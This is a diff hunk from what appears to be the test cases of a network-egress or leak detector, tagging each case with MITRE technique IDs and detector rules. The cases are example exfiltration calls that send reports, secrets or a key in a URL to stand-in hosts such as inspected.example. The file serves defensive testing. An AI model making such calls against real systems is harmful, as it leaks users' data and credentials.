@@ -250,8 +250,7 @@ web("https://{PUBLIC}/in", report)
 for piece in pieces(report, 300):
     web("http://inspected.example/in", piece)
 """, mode="staged", rule="passage_leaves", effect=carried),
-    # By chance the random canary may look disguised, too, which is refused before what would be asked about.
-    NetAttempt(1, "POST over TLS to an allowed host", "T1041|T1027", 'web("https://inspected.example/in", report)', rule="passage_leaves|hidden_data_leaves", effect=carried),
+    NetAttempt(1, "POST over TLS to an allowed host", "T1041", 'web("https://inspected.example/in", report)', rule="passage_leaves", effect=carried),
     NetAttempt(1, "POST in HTTP to an allowed host", "T1041", 'web("http://opaque.example/in", report)', allow=['{ host = "opaque.example" }'],
                rule="passage_leaves", effect=carried),
     NetAttempt(1, "a key in a request", "T1041", 'web("http://inspected.example/in?key=" + KEY, secret)', rule="secret_leaves", effect=carried),
